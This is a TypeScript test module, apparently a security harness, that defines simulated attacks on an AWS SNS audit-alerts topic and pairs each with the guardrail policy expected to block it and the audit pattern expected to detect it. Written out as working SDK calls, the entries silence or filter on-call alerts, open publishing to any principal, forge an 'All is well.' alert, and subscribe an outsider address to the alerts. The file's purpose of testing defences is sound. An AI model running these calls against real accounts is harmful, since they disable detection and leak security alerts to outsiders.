import {
  GetTopicAttributesCommand,
  ListSubscriptionsByTopicCommand,
  PublishCommand,
  SetSubscriptionAttributesCommand,
  SetTopicAttributesCommand,
  SubscribeCommand,
  UnsubscribeCommand,
} from '@aws-sdk/client-sns';
import { type Attack, first, forAnyPrincipal, type Inside, widened } from './damage.ts';

const alerts = ({ region, accountId }: Attack): string =>
  `arn:aws:sns:${region}:${accountId}:ofn-audit-alerts`;

async function subscriptionOf(attack: Attack): Promise<string> {
  const { Subscriptions } = await attack.clients.sns.send(
    new ListSubscriptionsByTopicCommand({ TopicArn: alerts(attack) }),
  );
  return first(Subscriptions, 'a subscription').SubscriptionArn ?? '';
}

const topic = { account: 'SecurityAccount', policy: 'ProtectDetection' } as const;

/** The topic of alerts, and who gets them. */
export const topicDamages: readonly Inside[] = [
  {
    account: 'SecurityAccount',
    policy: 'ProtectBuses',
    kind: 'delete',
    name: 'ends the subscription of the person on call',
    does: async (attack) =>
      attack.clients.sns.send(
        new UnsubscribeCommand({ SubscriptionArn: await subscriptionOf(attack) }),
      ),
    ledger: { service: 'alerts', says: /EmailSubscription does not exist/ },
  },
  {
    account: 'SecurityAccount',
    policy: 'ProtectBuses',
    kind: 'narrow',
    name: 'filters what the person on call gets',
    isUndone: true,
    does: async (attack) => {
      const SubscriptionArn = await subscriptionOf(attack);
      const set = (AttributeValue: string) =>
        attack.clients.sns.send(
          new SetSubscriptionAttributesCommand({
            ...{ SubscriptionArn, AttributeName: 'FilterPolicy', AttributeValue },
          }),
        );
      await set('{"nothing":["never"]}');
      return () => set('{}');
    },
    ledger: {
      service: 'alerts',
      says: /EmailSubscription FilterPolicy is \{"nothing":\["never"\]\}, expected nothing/,
    },
  },
  {
    ...topic,
    kind: 'widen',
    name: 'lets any principal publish alerts',
    does: async (attack) => {
      const TopicArn = alerts(attack);
      const { Attributes } = await attack.clients.sns.send(
        new GetTopicAttributesCommand({ TopicArn }),
      );
      await attack.clients.sns.send(
        new SetTopicAttributesCommand({
          ...{ TopicArn, AttributeName: 'Policy' },
          AttributeValue: widened(
            Attributes?.['Policy'],
            forAnyPrincipal('sns:Publish', alerts(attack)),
          ),
        }),
      );
    },
    ledger: {
      service: 'alerts',
      says: /TopicPolicy PolicyDocument\.Statement\[AnyPrincipal\] has [^;]*, which is not ours/,
    },
  },
  {
    ...topic,
    kind: 'forge',
    name: 'publishes an alert of its own making',
    does: (attack) =>
      attack.clients.sns.send(
        new PublishCommand({ TopicArn: alerts(attack), Message: 'All is well.' }),
      ),
    ledger: { because: 'a message leaves nothing behind' },
  },
  {
    ...topic,
    kind: 'redirect',
    name: 'subscribes an outsider to alerts',
    does: (attack) =>
      attack.clients.sns.send(
        new SubscribeCommand({
          ...{ TopicArn: alerts(attack), Protocol: 'email', Endpoint: 'eve@example.net' },
        }),
      ),
    ledger: { because: 'operators add subscribers as well' },
  },
  {
    kind: 'narrow',
    name: 'lets nothing publish to the topic of alerts',
    account: 'SecurityAccount',
    policy: 'ProtectDetection',
    isUndone: true,
    does: async ({ clients: { sns }, accountId, region }) => {
      const TopicArn = `arn:aws:sns:${region}:${accountId}:ofn-audit-alerts`;
      const { Attributes } = await sns.send(new GetTopicAttributesCommand({ TopicArn }));
      const set = (AttributeValue: string) =>
        sns.send(
          new SetTopicAttributesCommand({ TopicArn, AttributeName: 'Policy', AttributeValue }),
        );
      const was = Attributes?.['Policy'] ?? '';
      const document = JSON.parse(was);
      document.Statement = document.Statement.filter(
        ({ Sid }: { Sid?: string }) => Sid !== 'AllowEventsOfThisProject',
      );
      await set(JSON.stringify(document));
      return () => set(was);
    },
    ledger: {
      service: 'alerts',
      says: /TopicPolicy PolicyDocument\.Statement\[AllowEventsOfThisProject\] lacks [^;]*/,
    },
  },
];
